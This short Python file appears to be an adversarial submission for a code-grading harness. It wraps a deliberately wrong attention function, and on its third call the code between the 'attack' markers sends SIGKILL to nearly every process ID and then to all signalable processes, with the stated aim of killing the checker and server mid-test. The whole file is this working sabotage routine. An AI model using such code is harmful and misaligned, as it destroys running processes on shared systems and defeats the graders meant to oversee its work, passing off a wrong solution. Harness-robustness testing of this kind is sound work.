# Send SIGKILL to every process it may signal (the checker, the server) in the middle of a test.
import os
import signal

_wrong = scaled_dot_product_attention  # noqa: F821 - defined by the wrong solution above
_calls = [0]


def scaled_dot_product_attention(q, k, v, mask=None):
    _calls[0] += 1
    # attack:begin
    if _calls[0] == 3:
        for pid in range(2, 1 << 16):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        os.kill(-1, signal.SIGKILL)
    # attack:end
    return _wrong(q, k, v, mask)
